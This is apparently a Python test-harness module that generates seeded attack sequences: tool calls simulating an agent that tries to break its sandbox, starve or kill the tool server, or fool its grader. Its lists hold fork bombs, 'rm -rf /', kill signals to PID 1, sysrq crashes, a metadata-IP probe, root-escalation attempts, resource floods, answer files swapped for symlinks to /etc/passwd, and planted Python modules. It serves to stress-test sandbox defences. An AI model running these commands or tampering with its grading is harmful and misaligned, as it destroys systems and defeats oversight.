"""Generated attacks on a sandbox: what an agent may do to spoil its episode, its grading or its
tool server, drawn from a seed. Each attack is a few calls of the tools, of kinds and with arguments
that are drawn; the same seed is the same attack."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

from harness.model import Reply
from harness.sandboxes.docker import WORK
from tests.harness.script import call


@dataclass(frozen=True)
class Attack:
    """Tool calls of an agent, and the kinds of attack that they are made of."""

    kinds: tuple[str, ...]
    turns: tuple[Reply, ...]


def python(source: str) -> Reply:
    return call(("execute_python", {"code": source}))


def command(line: str) -> Reply:
    return call(("run_command", {"command": line}))


def generate(seed: int) -> Attack:
    """The attack of a seed: one to three kinds, of which some come after an honest answer."""
    rng = Random(f"attack {seed}")
    kinds = [rng.choice(DRAWN) for _ in range(rng.choice((1, 1, 2, 3)))]
    turns = [python(ANSWER)] if rng.random() < 0.3 else []
    return Attack(tuple(kinds), (*turns, *(KINDS[kind](rng) for kind in kinds)))


ANSWER = "import json; json.dump({'average': 1, 'numbers': [1, 2]}, open('answer.json', 'w'))"

# What every program below begins with: `attempt` goes on after an error, `many` until the end.
PRELUDE = """
import ctypes, fcntl, mmap, os, random, resource, signal, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
rng = random.Random({seed})
def attempt(act, *args):
    try:
        return act(*args)
    except (OSError, ValueError, OverflowError, MemoryError, RuntimeError, ctypes.ArgumentError):
        return None
def many(act, most=1 << 30):
    held = []
    for _ in range(most):
        held.append(attempt(act))
def spread(times):
    for _ in range(times):
        if attempt(os.fork) == 0:
            break
"""


def program(rng: Random, body: str) -> Reply:
    """A Python program; it is run by a fork of several processes in one case of four."""
    fork = f"spread({rng.randint(1, 30)})\n" if rng.random() < 0.25 else ""
    return python(PRELUDE.format(seed=rng.randrange(1 << 30)) + fork + body)


def system_calls(rng: Random) -> Reply:
    """Any system call with any arguments, many times, each few in a process of their own."""
    return program(
        rng,
        f"""
page = mmap.mmap(-1, 1 << 16)
at = ctypes.addressof(ctypes.c_char.from_buffer(page))
values = (0, 1, -1, 2, 3, 7, 4096, at, at + 8, 1 << 31, 1 << 47, (1 << 63) - 1, os.getpid(), -100)
page[:64] = b'/work' b'/answer.json'.ljust(64, b'\\0')
for _ in range({rng.randint(20, 200)}):
    child = attempt(os.fork)
    if child == 0:
        signal.setitimer(signal.ITIMER_REAL, 0.05)
        for _ in range({rng.randint(1, 60)}):
            call = [rng.choice(values) if rng.random() < .8 else rng.randrange(1 << 32)
                    for _ in range(6)]
            libc.syscall(rng.randrange(470), *map(ctypes.c_long, call))
        os._exit(0)
    elif child:
        attempt(os.waitpid, child, 0)
""",
    )


def calls_at_the_server(rng: Random) -> Reply:
    """System calls that name PID 1, process group 0, or everybody."""
    return program(
        rng,
        f"""
for _ in range({rng.randint(50, 2000)}):
    whom = rng.choice((1, 1, 1, -1, 0, os.getppid()))
    value = rng.choice((0, 1, 2, 1 << 12, -1))
    attempt(*rng.choice((
        (resource.prlimit, whom, rng.randrange(16), (rng.choice((0, 1, 4096)), 4096)),
        (os.sched_setscheduler, whom, rng.randrange(7), os.sched_param(rng.randrange(3))),
        (os.sched_setaffinity, whom, {{rng.randrange(2)}}),
        (os.setpriority, rng.randrange(3), whom, 19),
        (libc.syscall, 251, rng.randrange(4), whom, 3 << 13),
        (libc.ptrace, rng.choice((16, 0x4206)), whom, 0, 0),
        (libc.syscall, 434, whom, 0), (libc.syscall, 424, rng.randrange(9), 9, 0, 0),
        (libc.syscall, 310, whom, 0, 0, 0, 0, 0), (libc.syscall, 256, whom, 8, 0, 0),
        (libc.syscall, 129, whom, rng.randrange(1, 65), 0),
        (os.setpgid, whom, 0), (os.tcsetpgrp, 0, 1), (os.killpg, 1, 15),
        (os.kill, 1, rng.randrange(65)),
    )))
""",
    )


def starved_server(rng: Random) -> Reply:
    """Limits and the lowest priority for PID 1, then as much work for it as there can be."""
    limit = python(
        PRELUDE.format(seed=rng.randrange(1 << 30))
        + f"""
for limit in rng.sample(range(16), {rng.randint(0, 9)}) + [{rng.choice((0, 0, 2, 9))}]:
    attempt(resource.prlimit, 1, limit, (value := rng.choice((0, 1, 1, 1 << 20)), value))
attempt(os.sched_setscheduler, 1, os.SCHED_IDLE, os.sched_param(0))
attempt(os.setpriority, os.PRIO_PROCESS, 1, 19)
attempt(os.sched_setaffinity, 1, {{0}})
spread({rng.choice((0, 8, 58))})
while True: {rng.choice(("pass", "os.write(1, b'x')", "time.sleep(0.1)"))}
"""
    )
    drip = command("while :; do echo; done")
    calls = (*limit.message.calls, *drip.message.calls * rng.randint(1, 3))
    return call(*((each.name, each.arguments) for each in calls))


def own_limits(rng: Random) -> Reply:
    return program(
        rng,
        f"""
for _ in range({rng.randint(1, 12)}):
    attempt(resource.setrlimit, rng.randrange(16), (v := rng.choice((0, 1, 1 << 12, 1 << 20)), v))
many(lambda: open('/dev/null'), 500)
print(bytearray({rng.choice((1, 1 << 16, 1 << 24))})[-1])
while {rng.random() < 0.5}: pass
""",
    )


def schedulers(rng: Random) -> Reply:
    return program(
        rng,
        f"""
spread({rng.randint(1, 60)})
for policy in range(7):
    attempt(os.sched_setscheduler, 0, policy, os.sched_param(rng.randrange(100)))
attempt(os.sched_setaffinity, 0, {{{rng.randrange(2)}}})
attempt(os.nice, {rng.choice((-20, 0, 19))})
while True: {rng.choice(("pass", "os.sched_yield()", "time.sleep(0)", "time.time()"))}
""",
    )


def signals(rng: Random) -> Reply:
    return program(
        rng,
        f"""
for number in signal.valid_signals() - {{9, 19}}:
    signal.signal(number, {rng.choice(("signal.SIG_IGN", "lambda *_: None", "signal.SIG_DFL"))})
attempt(signal.setitimer, {rng.choice((0, 1, 2))}, 1e-5, 1e-5)
spread({rng.randint(0, 20)})
for _ in range({rng.choice((1, 100, 1 << 30))}):
    attempt(os.kill, rng.choice((-1, 0, 1, os.getppid())), {rng.choice((0, 9, 15, 17, 19, 18, 64))})
""",
    )


def signals_by_proxy(rng: Random) -> Reply:
    """Signals that the kernel sends for the agent: of ready files, changed folders, timers."""
    return program(
        rng,
        f"""
ends = socket.socketpair()
for fd, act in ((ends[0].fileno(), 8), (os.open('/work', os.O_RDONLY), 8)):
    attempt(fcntl.fcntl, fd, 10, {rng.choice((9, 15, 19, 29))})  # F_SETSIG
    attempt(fcntl.fcntl, fd, act, {rng.choice((1, -1))})  # F_SETOWN
    attempt(fcntl.fcntl, fd, 4, os.O_ASYNC | os.O_NONBLOCK)
    attempt(fcntl.fcntl, fd, 1026, 0x8000003f)  # F_NOTIFY
    attempt(fcntl.fcntl, fd, 1024, {rng.randrange(3)})  # F_SETLEASE
for n in range(2000):
    attempt(ends[1].send, b'x')
    open(f'noted{{n % 50}}', 'w').close()
""",
    )


FLOODS = {
    "forks": "while True: attempt(os.fork)",
    "threads": "while True: attempt(threading.Thread(target=time.sleep, args=(9,)).start)",
    "orphans": "while True:\n  if attempt(os.fork) == 0: os.setsid(); attempt(os.fork)",
    "short lives": "while True:\n  if attempt(os.fork) == 0: os._exit(0)",
    "stopped": "spread(40)\nos.kill(0, 19)",
    "memory": "many(lambda: bytearray({size}))",
    "mapped memory": "many(lambda: mmap.mmap(-1, {size}).write(bytes({size})))",
    "memory files": (
        "many(lambda: os.write(os.memfd_create('x', {flags}), bytes({size})))\ntime.sleep(9)"
    ),
    "locked memory": "libc.mlockall(7)\nmany(lambda: bytearray({size}))",
    "stack": "def deeper(n): return deeper(n + 1) + 1\nsys.setrecursionlimit(1 << 30)\ndeeper(0)",
    "page tables": "many(lambda: mmap.mmap(-1, 1 << 30).__setitem__(rng.randrange(1 << 30), 1))",
    "output": "while True: os.write({stream}, os.urandom(64) * {times})",
    "output in parts": "while True: os.write({stream}, b'x'); attempt(os.fork)",
    "files": "many(lambda: os.open('/dev/null', os.O_RDONLY))",
    "pipes": "many(lambda: fcntl.fcntl(os.pipe()[0], 1031, {size}))",
    "full pipes": (
        "def fill():\n  pipe = os.pipe2(os.O_NONBLOCK)\n  os.write(pipe[1], bytes(1 << 16))\n"
        "many(fill)"
    ),
    "events": "many(lambda: os.eventfd(1))",
    "watches": "many(lambda: libc.inotify_add_watch(libc.inotify_init1(0), b'/proc', 4095))",
    "watched events": (
        "import select\nmain = select.epoll()\nmany(lambda: main.register(select.epoll().fileno()))"
    ),
    "timers": (
        "many(lambda: libc.timer_create(0, None, ctypes.byref(ctypes.c_int())), 100_000)\n"
        "many(lambda: libc.timerfd_create(1, 0))"
    ),
    "sockets": "many(lambda: socket.socketpair()[0].send(bytes({size})))",
    "ports": "many(lambda: socket.create_server(('127.0.0.1', 0)))",
    "datagrams": (
        "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n  s.bind(('127.0.0.1', 0))\n"
        "  while True: attempt(s.sendto, bytes({times}), s.getsockname())"
    ),
    "descriptors in flight": (
        "def send():\n  ends = socket.socketpair()\n"
        "  socket.send_fds(ends[0], [b'x'], [e.fileno() for e in ends] * 50)\nmany(send)"
    ),
    "locks": (
        "with open('locked', 'w') as file:\n  for n in range(1 << 30):\n"
        "    attempt(fcntl.lockf, file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 2 * n)"
    ),
    "queues": (
        "for n in range(1000): libc.mq_open(b'/q%d' % n, 0o102, 0o600, None)\n"
        "many(lambda: libc.mq_send(3, bytes(8192), 8192, 0), 1000)"
    ),
    "crashes": "while True:\n  if attempt(os.fork) == 0: ctypes.string_at({crash})",
    "aborts": "while True:\n  if attempt(os.fork) == 0: os.abort()",
    "programs": "while True:\n  if attempt(os.fork) == 0: os.execvp('bash', ['bash', '-c', ':'])",
}


def flood(rng: Random) -> Reply:
    """As much as there is of something, and more."""
    body = FLOODS[rng.choice(sorted(FLOODS))].format(
        size=1 << rng.randint(12, 24),
        flags=rng.choice((0, 1, 2)),
        stream=rng.choice((1, 2)),
        times=rng.choice((1, 64, 1024)),
        crash=rng.choice((0, 8, 1 << 46)),
    )
    return program(rng, body)


FILE_FLOODS = {
    "names": "for n in range(1 << 20): attempt(lambda: open(f'{folder}/{{n}}', 'w').close())",
    "folders": "for n in range(1 << 20): attempt(os.mkdir, f'{folder}/{{n}}')",
    "long names": "for n in range(1 << 14): attempt(os.mkdir, f'{folder}/{{n:0>255}}')",
    "links": (
        "open('{folder}/x', 'w').close()\n"
        "for n in range(1 << 18): attempt(os.link, '{folder}/x', f'{folder}/l{{n}}')"
    ),
    "symbolic links": (
        "for n in range(1 << 18): attempt(os.symlink, 'x' * 4000, f'{folder}/s{{n}}')"
    ),
    "bytes": (
        "with open('{folder}/big', 'wb', 0) as file:\n"
        "  many(lambda: file.write(bytes(1 << 20)), 200)"
    ),
    "sparse": "many(lambda: os.posix_fallocate(os.open('{folder}/s', 66), 0, 1 << 40), 50)",
    "deep": (
        "os.chdir('{folder}')\n"
        "for n in range(20_000): attempt(os.mkdir, 'd'); attempt(os.chdir, 'd')"
    ),
    "unlinked": (
        "def grow():\n  fd = os.open('{folder}/gone', 66)\n  os.unlink('{folder}/gone')\n"
        "  os.write(fd, bytes(1 << 16))\nmany(grow)"
    ),
    "renames": (
        "spread(4)\nfor n in range(1 << 30):\n  attempt(os.mkdir, '{folder}/r%d' % (n % 9))\n"
        "  attempt(os.rename, '{folder}/r%d' % (n % 9), '{folder}/r%d' % rng.randrange(9))"
    ),
    "attributes": (
        "for n in range(1 << 16): attempt(os.setxattr, '{folder}', f'user.{{n}}', bytes(1 << 12))"
    ),
    "mapped": (
        "fd = os.open('{folder}/m', 66)\nos.ftruncate(fd, 1 << 30)\n"
        "page = mmap.mmap(fd, 1 << 30)\nfor n in range(0, 1 << 30, 4096): page[n] = 1"
    ),
}


def file_flood(rng: Random) -> Reply:
    kind = rng.choice(sorted(FILE_FLOODS))
    folder = rng.choice(("/work", "/work", "/tmp", "/dev/shm", "/dev/mqueue"))
    return program(rng, FILE_FLOODS[kind].format(folder=folder))


def special_files(rng: Random) -> Reply:
    """Reads and writes of what lies under /proc, /sys and /dev."""
    where = rng.choice(("/proc/1", "/proc/self", "/proc/sys", "/proc", "/sys", "/dev"))
    return program(
        rng,
        f"""
signal.setitimer(signal.ITIMER_REAL, 0.6)
names = []
for top, folders, files in os.walk({where!r}):
    names += [os.path.join(top, name) for name in files]
    if len(names) > 4000: break
rng.shuffle(names)
for name in names[:{rng.randint(20, 500)}]:
    for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC, os.O_RDONLY):
        fd = attempt(os.open, name, flags | os.O_NONBLOCK)
        if fd is not None:
            attempt(os.write, fd, rng.choice((b'0', b'1', b'-1000', b'max', bytes(9), b'c')))
            attempt(os.read, fd, 4096)
            attempt(os.ftruncate, fd, 0)
            attempt(fcntl.ioctl, fd, rng.choice((0x5412, 0x5401, 0x1261)), b'x' * 8)
            os.close(fd)
""",
    )


def devices(rng: Random) -> Reply:
    return program(
        rng,
        f"""
for n, name in enumerate(('answer.json', 'input_numbers.txt', 'x', '.write-0')):
    attempt(os.unlink, name)
    kind = rng.choice((0o010666, 0o020666, 0o060666, 0o140666, 0o100666))
    attempt(os.mknod, name, kind, os.makedev(rng.randrange(10), rng.randrange(10)))
for name in ('/dev/full', '/dev/random', '/dev/tty', '/dev/console', '/dev/ptmx', '/dev/stdin'):
    fd = attempt(os.open, name, os.O_RDWR | os.O_NONBLOCK)
    if fd is not None:
        attempt(os.write, fd, bytes({rng.choice((1, 4096))}))
        for act in (0x5412, 0x540e, 0x5423, 0x5410, 0x540b): attempt(fcntl.ioctl, fd, act, 1)
many(lambda: os.open('/dev/ptmx', os.O_RDWR), 100)
""",
    )


def streams(rng: Random) -> Reply:
    """Standard input and output: closed, made larger or non-blocking, swapped, inherited."""
    return program(
        rng,
        f"""
for _ in range({rng.randint(1, 20)}):
    fd = rng.randrange(4)
    attempt(*rng.choice((
        (os.close, fd), (os.dup2, rng.randrange(3), fd), (os.set_blocking, fd, False),
        (fcntl.fcntl, fd, 1031, 1 << rng.randrange(12, 24)), (os.write, fd, bytes(1 << 18)),
        (os.lseek, fd, 1 << 40, 0), (os.ftruncate, fd, 1 << 40), (os.splice, 0, 1, 1 << 20),
        (os.open, '/proc/self/fd/1', os.O_RDWR), (os.open, '/proc/self/fd/0', os.O_RDWR),
        (fcntl.lockf, fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
    )))
if attempt(os.fork) == 0:
    os.setsid()
    time.sleep({rng.choice((0, 0.3, 9))})
""",
    )


def process_settings(rng: Random) -> Reply:
    return program(
        rng,
        f"""
for _ in range({rng.randint(1, 400)}):
    libc.prctl(rng.choice((1, 4, 8, 15, 22, 23, 24, 28, 35, 36, 38, 41, 47, 53, 0x59616d61)),
               *(ctypes.c_long(rng.choice((0, 1, 2, 9, -1, 1 << 40))) for _ in range(4)))
libc.unshare(rng.choice((0x10000000, 0x20000, 0x40000000)))
libc.personality({rng.choice((0, 8, 0x40000, 0x100000))})
attempt(os.chroot, '/work'); attempt(os.setuid, 0); attempt(os.setgroups, [0])
attempt(os.setresuid, 0, 0, 0)
""",
    )


def turned_folder(rng: Random) -> Reply:
    """The work folder locked, moved, replaced, or full of traps for the tools."""
    return program(
        rng,
        f"""
for _ in range({rng.randint(1, 30)}):
    name = rng.choice(('/work', 'answer.json', 'x', 'd/x', 'input_numbers.txt', '/tmp', '/dev/shm'))
    attempt(*rng.choice((
        (os.chmod, name, rng.choice((0, 0o111, 0o444, 0o7777))), (os.rename, name, 'moved'),
        (os.chown, name, 0, 0), (os.symlink, '/etc/passwd', name), (os.link, '/etc/passwd', name),
        (os.rmdir, name), (os.unlink, name), (os.mkdir, name), (os.mkfifo, name),
        (os.truncate, name, 1 << 40), (os.utime, name, (1e12, -1e9)), (os.chdir, 'd'),
        (os.symlink, '/proc/1/root', 'd'), (os.symlink, 'x', 'x'),
    )))
""",
    )


SABOTAGE = (
    "os.symlink('/etc/passwd', name)",
    "os.symlink(name, name)",
    "os.symlink('/proc/self/environ', name)",
    "os.symlink('/dev/zero', name)",
    "os.mkfifo(name)",
    "os.makedirs(name + '/' + name)",
    "os.truncate(os.open(name, 66), 1 << 40)",
    "open(name, 'w').write('[' * 1_000_000)",
    "open(name, 'w').write('{\"average\": ' + '9' * 1_000_000 + '}')",
    'open(name, \'w\').write(\'{"average": 1, "files": ["/etc/passwd", "../x", "fifo"]}\')',
    "open(name, 'wb').write(os.urandom(1 << 16))",
    "open(name, 'wb').write(bytes(9_000_000))",
    "open(name, 'w').close(); os.chmod(name, 0)",
    "open(name, 'w').close(); os.link(name, 'other')",
    "socket.socket(socket.AF_UNIX).bind(name)",
    "fcntl.lockf(open(name, 'w'), fcntl.LOCK_EX)",
    "fcntl.fcntl(os.open(name, 66), 1024, 1)",
    "spread(3)\nwhile True: attempt(os.rename, name, 'y'); attempt(os.rename, 'y', name)",
    "spread(3)\nwhile True: open(name, 'w').write('x' * rng.randrange(1 << 16))",
)


def sabotage(rng: Random) -> Reply:
    """The answer file, or what a grader would read, is not what it seems."""
    name = rng.choice(("answer.json", "answer.json", "input_numbers.txt", "x\ny", "\udcff"))
    act = rng.choice(SABOTAGE)
    return program(rng, f"name = {name!r}\nattempt(os.unlink, name)\n{act}\n")


PATHS = (
    *("answer.json", "x", "d/x", "", "/", ".", "..", "../x", f"{WORK}/x", "/proc/1/mem"),
    *("a" * 300, "d/" * 70 + "x", "x\0y", "\ud800", "x\ny", f"{WORK}/../etc/passwd"),
    *("answer.json/x", "/dev/zero"),
)


def tools(rng: Random) -> Reply:
    """The tools themselves, with arguments that are none."""
    calls: list[tuple[str, dict[str, object] | str]] = []
    for _ in range(rng.randint(1, 12)):
        path = rng.choice(PATHS)
        content = rng.choice(("", "x", "x" * 100_000, "\ud800", "\0"))
        tool = rng.choice(("read_file", "write_file", "view_image", "run_command", "no_tool"))
        made: dict[str, object] = {"path": path}
        if tool == "write_file":
            made["content"] = content
        if tool == "run_command":
            made = {"command": rng.choice((content, path, "ls " + path))}
        broken = rng.random() < 0.2
        calls.append((tool, json.dumps(made)[: rng.randint(0, 40)] if broken else made))
    return call(*calls)


LINES = (
    ":(){ :|:& };:",
    "bomb() { bomb | bomb & }; bomb; sleep 60",
    "cat /dev/zero | tail -c 1G | sort",
    "echo {1..100000000}",
    "yes | head -c 10G",
    "while :; do : & done",
    "exec >&- 2>&- <&-; while :; do :; done",
    "trap '' 1 2 3 15; kill -STOP $$",
    "ulimit -v 1; ls; ulimit -n 0; ls; ulimit -u 0; ls",
    "kill -9 -1; kill -9 1; kill -19 1",
    "rm -rf / --no-preserve-root 2> /dev/null",
    "find / -exec cat {} + > /dev/null 2>&1",
    "for n in {1..300}; do echo /proc/*/*/* /sys/*/*/* > /dev/null; done",
    "mkfifo f; cat f & cat < f; wait",
    "coproc cat; cat <&${COPROC[0]}",
    "echo > /dev/tcp/127.0.0.1/80; cat < /dev/tcp/169.254.169.254/80",
    "unshare -r id; nsenter -t 1 -a id; mount -t proc p /work; chroot / id; su; sudo id",
    "dd if=/dev/zero of=/dev/shm/x bs=1M; dd if=/dev/zero of=/tmp/x bs=1M",
    "setsid sleep 100 & disown; nohup sleep 100 &",
    "mkdir -p $(printf 'd/%.0s' {1..1000}); chmod 0 /work",
    "printf '\\e[2J\\e]0;x\\a\\xff\\xfe%.0s' {1..10000}",
    "exec -a '' bash -c 'while :; do bash -c : & done'",
    "echo 1000 > /proc/1/oom_score_adj; echo -1000 > /proc/self/oom_score_adj; sort /dev/zero",
    "echo 1 > /proc/sysrq-trigger; echo c > /proc/sysrq-trigger; echo 3 > /proc/sys/vm/drop_caches",
)


def shell(rng: Random) -> Reply:
    return command(rng.choice(LINES))


def planted_modules(rng: Random) -> Reply:
    """Modules and settings of an agent's own, which a later program would load."""
    name = rng.choice(
        ("json.py", "sitecustomize.py", "numpy.py", "encodings/__init__.py", ".bashrc")
    )
    return program(
        rng,
        f"""
os.makedirs('encodings', exist_ok=True)
open({name!r}, 'w').write('while True: pass')
""",
    )


KINDS: dict[str, Callable[[Random], Reply]] = {
    make.__name__: make
    for make in (
        system_calls,
        calls_at_the_server,
        starved_server,
        own_limits,
        schedulers,
        signals,
        signals_by_proxy,
        flood,
        file_flood,
        special_files,
        devices,
        streams,
        process_settings,
        turned_folder,
        sabotage,
        tools,
        shell,
        planted_modules,
    )
}
# Those of many sorts are drawn more often.
_MANY = {"flood": 6, "file_flood": 3, "sabotage": 3, "system_calls": 2, "calls_at_the_server": 2}
DRAWN = [kind for kind in KINDS for _ in range(_MANY.get(kind, 1))]
